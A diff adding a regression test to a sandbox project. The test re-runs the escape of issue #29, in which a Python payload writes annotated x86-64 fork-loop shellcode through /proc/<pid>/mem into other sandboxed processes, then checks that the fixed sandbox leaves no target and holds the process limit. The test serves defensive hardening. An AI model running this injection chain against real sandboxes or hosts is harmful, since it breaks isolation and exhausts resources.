@@ -366,3 +366,81 @@ async def test_other_shared_memory_routes_are_closed(mode):
     assert r["shared_anon_700MiB"].startswith("OSError: [Errno 12]"), r  # ENOMEM: beyond the address space
     rc, err = json.loads(r["mq_open"][3:].replace("(", "[").replace(")", "]"))
     assert rc == -1 and err in ((1,) if mode == "off" else (1, 12, 24)), r  # EPERM / ENOMEM / EMFILE
+
+
+# The chain of issue #29 as it was run: write, through /proc/<pid>/mem, code into every other process of
+# the sandbox at the address its pending system call returns to (/proc/<pid>/syscall's last field), then
+# exit, so that PID 1's wait() returns into it. The injected x86-64 code forks 40 times (each child and,
+# at the end, the parent then pause() forever). Before the fix bubblewrap's init was such a process —
+# the code's uid, no seccomp filter, no rlimits — and forked 40 children against `max_processes: 16`.
+FORK_SHELLCODE = bytes.fromhex(
+    "41bc28000000"  # mov r12d, 40
+    "b839000000"    # loop: mov eax, 57 (fork)
+    "0f05"          # syscall
+    "85c0"          # test eax, eax
+    "7405"          # je pause (the child)
+    "41ffcc"        # dec r12d
+    "75f0"          # jne loop
+    "b822000000"    # pause: mov eax, 34 (pause)
+    "0f05"          # syscall
+    "ebf7"          # jmp pause
+)
+HIJACK = f"""
+import json, os
+me, result = os.getpid(), {{}}
+for pid in sorted(int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()):
+    try:
+        pc = int(open("/proc/%d/syscall" % pid).read().split()[-1], 16)
+        with open("/proc/%d/mem" % pid, "r+b", buffering=0) as f:
+            f.seek(pc)
+            f.write({FORK_SHELLCODE!r})
+        result[pid] = "injected at %x" % pc
+    except (OSError, ValueError, IndexError) as e:
+        result[pid] = repr(e)
+print(json.dumps({{"me": me, "targets": result}}), flush=True)
+"""
+
+
+def _sandbox_tasks(uid: int) -> int:
+    """Processes of host `uid` that live in a PID namespace other than this test's (the sandbox's)."""
+    own = os.readlink("/proc/self/ns/pid")
+    n = 0
+    for name in os.listdir("/proc"):
+        if name.isdigit():
+            try:
+                status = Path(f"/proc/{name}/status").read_text()
+                real_uid = int(next(line for line in status.splitlines() if line.startswith("Uid:")).split()[1])
+                if real_uid == uid and os.readlink(f"/proc/{name}/ns/pid") != own:
+                    n += 1
+            except (OSError, StopIteration):
+                pass
+    return n
+
+
+@pytest.mark.slow
+@pytest.mark.skipif(os.uname().machine != "x86_64", reason="the injected code is x86-64")
+def test_proc1_mem_fork_bomb_chain_fails_unprivileged_worker():
+    import site
+
+    py = f"/usr/bin/python{sys.version_info[0]}.{sys.version_info[1]}"
+    src = str(Path(__file__).resolve().parents[1] / "src")
+    env = {"PYTHONPATH": os.pathsep.join([src, *site.getsitepackages()]), "HOME": "/tmp"}
+    drop = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"]
+    if os.geteuid() != 0 or not os.path.exists(py):
+        pytest.skip(f"needs root (to start a worker as uid 65534) and {py} (an interpreter that uid can run)")
+    if _sandbox_tasks(65534):
+        pytest.skip("other uid-65534 sandboxes run on this host now: the count below would mix them in")
+    worker = NON_ROOT_WORKER.replace("audit_hook=False,", "audit_hook=False, timeout=6, max_processes=16,")
+    proc = subprocess.Popen([*drop, py, "-c", worker, HIJACK], env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
+                            text=True)
+    most = 0
+    while proc.poll() is None:
+        most = max(most, _sandbox_tasks(65534))
+        time.sleep(0.05)
+    stdout, stderr = proc.communicate(timeout=60)
+    assert proc.returncode == 0, stderr[-2000:]
+    out = json.loads(stdout.strip().splitlines()[-1])
+    report = json.loads(out["stdout"].strip().splitlines()[0])
+    # nothing to write into: the sandbox holds no process but the filtered interpreter, PID 1
+    assert report == {"me": 1, "targets": {}}, report
+    assert most <= 1 + 16, f"{most} processes of the sandbox at once"
